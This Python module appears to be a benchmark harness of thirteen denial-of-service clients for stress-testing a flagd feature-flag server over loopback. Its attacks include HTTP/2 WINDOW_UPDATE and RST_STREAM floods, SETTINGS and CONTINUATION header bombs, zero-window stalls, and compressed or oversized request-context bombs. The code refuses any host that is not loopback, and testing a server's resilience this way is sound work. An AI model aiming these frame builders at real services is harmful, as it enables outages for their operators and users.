"""Clients that try to wear a server out, over raw sockets on loopback: bounded in connections, bytes and time.

    python -m bench.attacks NAME PORT [--seconds 5] [--host 127.0.0.1]      one of them
    python -m bench.attacks --list                                          their names, ports and what they do

Run them in a process of their own, beside one that measures how long a bystander waits. Every attack reconnects when it
is cut off, at most every 50 ms, and ends after `seconds`. None of them leaves loopback.
"""

from __future__ import annotations

import argparse
import asyncio
import gzip
import ipaddress
import json
import struct
import sys
from base64 import b64encode
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Literal, NamedTuple

Role = Literal["evaluation", "ofrep", "sync", "management"]
Run = Callable[[str, int, float], Awaitable[None]]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
RESOLVE = b"/flagd.evaluation.v1.Service/ResolveBoolean"
RESOLVE_ALL = b"/flagd.evaluation.v1.Service/ResolveAll"
SYNC = b"/flagd.sync.v1.FlagSyncService/SyncFlags"
PAUSE = 0.05


class Attack(NamedTuple):
    """One way to wear a server out."""

    name: str
    role: Role
    """The port it goes to."""
    run: Run
    """Takes host, port and seconds."""


class Client:
    """One connection; what the server says is read and dropped, unless the attack is not to read."""

    def __init__(self, host: str, port: int) -> None:
        if not ipaddress.ip_address(host).is_loopback:
            raise ValueError("attacks stay on loopback")
        self._host, self._port = host, port

    async def repeat(
        self, seconds: float, first: bytes, then: Callable[[int], bytes], *, reads: bool = True, pause: float = 0.0
    ) -> None:
        """Send `first`, then what `then` gives for 0, 1, 2 …; if cut off, begin again."""
        with suppress(TimeoutError):
            async with asyncio.timeout(seconds):
                while True:
                    with suppress(OSError):
                        await self._once(first, then, reads, pause)
                    await asyncio.sleep(PAUSE)

    async def _once(self, first: bytes, then: Callable[[int], bytes], reads: bool, pause: float) -> None:
        reader, writer = await asyncio.open_connection(self._host, self._port)
        draining = asyncio.ensure_future(_drain(reader)) if reads else None
        try:
            writer.write(first)
            count = 0
            while draining is None or not draining.done():
                writer.write(then(count))
                await writer.drain()
                await asyncio.sleep(pause)
                count += 1
        finally:
            if draining is not None:
                draining.cancel()
            writer.transport.abort()


async def _drain(reader: asyncio.StreamReader) -> None:
    while await reader.read(1 << 20):
        pass


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def greeting(window: int = 65_535, link: int = 1 << 30) -> bytes:
    """The preface, the window of each stream, and what the connection may be sent."""
    settings = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, window))
    return PREFACE + settings + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", link))


def _literal(name: bytes, value: bytes) -> bytes:
    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value


def request(stream: int, path: bytes, message: bytes, encoding: bytes = b"", kind: bytes = b"") -> bytes:
    """One gRPC request, or one of gRPC-Web in text, if that is the kind."""
    block = b"\x83\x86\x04" + bytes((len(path),)) + path + b"\x01\x01h"
    block += _literal(b"content-type", kind or b"application/grpc") + _literal(b"te", b"trailers")
    if encoding:
        block += _literal(b"grpc-encoding", encoding)
    body = bytes((bool(encoding),)) + len(message).to_bytes(4, "big") + message
    body = b64encode(body) if kind else body
    pieces = [body[at : at + 16_384] for at in range(0, len(body), 16_384)]
    frames = [frame(DATA, END_STREAM if piece is pieces[-1] else 0, stream, piece) for piece in pieces]
    return frame(HEADERS, END_HEADERS, stream, block) + b"".join(frames)


def blob(number: int, value: bytes) -> bytes:
    """One field of a protobuf message."""
    size, prefix = len(value), bytearray((number << 3 | 2,))
    while size > 127:
        prefix.append(size & 127 | 128)
        size >>= 7
    return bytes(prefix) + bytes((size,)) + value


def number(value: float) -> bytes:
    """One Value of a Struct."""
    return b"\x11" + struct.pack("<d", value)


def post(path: str, body: bytes, extra: str = "") -> bytes:
    """One OFREP request."""
    head = (
        f"POST {path} HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\n{extra}Content-Length: {len(body)}\r\n"
    )
    return head.encode() + b"\r\n" + body


async def pipelining(host: str, port: int, seconds: float) -> None:
    """One HTTP/1.1 client sends requests as fast as it can, without waiting for answers."""
    flags = post("/ofrep/v1/evaluate/flags/static", b"{}") * 1000
    await Client(host, port).repeat(seconds, b"", lambda _: flags)


async def pipelining_crowd(host: str, port: int, seconds: float) -> None:
    """Fifty such clients at a time."""
    await asyncio.gather(*(pipelining(host, port, seconds) for _ in range(50)))


async def window_updates(host: str, port: int, seconds: float) -> None:
    """One connection sends nothing but WINDOW_UPDATE."""
    flood = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 20_000
    await Client(host, port).repeat(seconds, greeting(link=1), lambda _: flood)


async def resets(host: str, port: int, seconds: float) -> None:
    """One connection resets a stream that is closed already, over and over."""
    flood = frame(RST_STREAM, 0, 1, struct.pack(">I", 8)) * 20_000
    await Client(host, port).repeat(seconds, greeting() + request(1, RESOLVE, b""), lambda _: flood)


async def settings_entries(host: str, port: int, seconds: float) -> None:
    """SETTINGS of thousands of entries, each of which changes the windows of 250 open streams."""
    entries = b"".join(struct.pack(">HI", INITIAL_WINDOW_SIZE, n % 2) for n in range(2700))
    opened = b"".join(frame(HEADERS, END_HEADERS, n, b"\x83\x86\x84\x01\x01h") for n in range(1, 501, 2))
    flood = frame(SETTINGS, 0, 0, entries) * 15
    await Client(host, port).repeat(seconds, greeting() + opened, lambda _: flood)


async def zero_windows(host: str, port: int, seconds: float) -> None:
    """Four connections ask for all flags 250 times each, grant nothing, and then one byte per second.

    In gRPC-Web as text, since each answer is then an object of its own.
    """
    asked = b"".join(request(n, RESOLVE_ALL, b"", kind=b"application/grpc-web-text") for n in range(1, 501, 2))
    drip = frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))
    client = Client(host, port)
    await asyncio.gather(*(client.repeat(seconds, greeting(0) + asked, lambda _: drip, pause=1.0) for _ in range(4)))


async def unread_streams(host: str, port: int, seconds: float) -> None:
    """Sixty sync streams with a window of 2 GB, and nothing is read."""
    asked = greeting((1 << 31) - 1) + request(1, SYNC, b"")
    client = Client(host, port)
    await asyncio.gather(*(client.repeat(seconds, asked, lambda _: b"", reads=False, pause=1.0) for _ in range(60)))


async def upgrades(host: str, port: int, seconds: float) -> None:
    """Pipelined requests that each offer to upgrade to h2c."""
    offer = b"GET / HTTP/1.1\r\nHost: h\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n" * 3000
    await Client(host, port).repeat(seconds, b"", lambda _: offer)


async def header_bomb(host: str, port: int, seconds: float) -> None:
    """Header blocks of up to a megabyte, in CONTINUATION frames: references, or Huffman strings."""
    start = b"\x83\x86\x84\x01\x01h"
    huffman = b"".join(b"\0\x01a\xff\x81\x1f" + b"\x1f" * 4096 for _ in range(240))

    def block(count: int) -> bytes:
        content = start + (b"\x90" * 980_000 if count % 2 else huffman)
        pieces = [content[at : at + 16_384] for at in range(0, len(content), 16_384)]
        frames = [
            frame(CONTINUATION if at else HEADERS, END_HEADERS if at == len(pieces) - 1 else 0, 1 + 2 * count, piece)
            for at, piece in enumerate(pieces)
        ]
        return b"".join(frames)

    await Client(host, port).repeat(seconds, greeting(), block)


def _grpc_flood(message: bytes, path: bytes = RESOLVE) -> Run:
    packed = gzip.compress(message)

    async def run(host: str, port: int, seconds: float) -> None:
        def batch(count: int) -> bytes:
            return b"".join(request(1 + 2 * (count * 20 + n), path, packed, b"gzip") for n in range(20))

        await Client(host, port).repeat(seconds, greeting(), batch)

    return run


async def repeated_context(host: str, port: int, seconds: float) -> None:
    """A context in ten thousand pieces, which must not be joined one by one; 3 kB as gzip."""
    entry = blob(1, blob(1, b"k") + blob(2, blob(3, b"v" * 80)))
    await _grpc_flood(blob(1, b"static") + blob(2, entry) * 9_500)(host, port, seconds)


async def many_values(host: str, port: int, seconds: float) -> None:
    """A context of half a million empty entries; 1 kB as gzip."""
    await _grpc_flood(blob(1, b"static") + blob(2, b"\x0a\x00" * 480_000))(host, port, seconds)


async def digits(host: str, port: int, seconds: float) -> None:
    """A context whose values are numbers of thousands of digits, as text and as JSON numbers."""
    body = json.dumps({"context": {"targetingKey": "u", "tier": "9" * 900_000, "email": "1" * 4000}}).encode()
    plain = post("/ofrep/v1/evaluate/flags/targeted", body)
    long_number = post("/ofrep/v1/evaluate/flags/targeted", b'{"context": {"tier": ' + b"9" * 900_000 + b"}}")
    await Client(host, port).repeat(seconds, b"", lambda count: long_number if count % 2 else plain)


async def lists(host: str, port: int, seconds: float) -> None:
    """A context with lists of ninety thousand values, for rules with `in`, `some` and the like."""
    items = list(range(90_000))
    body = json.dumps({"context": {"targetingKey": "u", "tier": items, "email": items}}).encode()
    ask = post("/ofrep/v1/evaluate/flags/targeted", body)
    await Client(host, port).repeat(seconds, b"", lambda _: ask)


ATTACKS = (
    Attack("pipelining", "ofrep", pipelining),
    Attack("pipelining-crowd", "ofrep", pipelining_crowd),
    Attack("window-updates", "evaluation", window_updates),
    Attack("resets", "evaluation", resets),
    Attack("settings-entries", "evaluation", settings_entries),
    Attack("zero-windows", "evaluation", zero_windows),
    Attack("unread-streams", "sync", unread_streams),
    Attack("upgrades", "management", upgrades),
    Attack("header-bomb", "evaluation", header_bomb),
    Attack("repeated-context", "evaluation", repeated_context),
    Attack("many-values", "evaluation", many_values),
    Attack("digits", "ofrep", digits),
    Attack("lists", "ofrep", lists),
)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", nargs="?", choices=[each.name for each in ATTACKS])
    parser.add_argument("port", nargs="?", type=int)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--list", action="store_true")
    options = parser.parse_args()
    if options.list or not options.name or not options.port:
        for each in ATTACKS:
            print(f"{each.name:18} {each.role:11} {(each.run.__doc__ or '').splitlines()[0]}")
        return 0
    attack = next(each for each in ATTACKS if each.name == options.name)
    asyncio.run(attack.run(options.host, options.port, options.seconds))  # type: ignore[arg-type]
    return 0


if __name__ == "__main__":
    sys.exit(main())
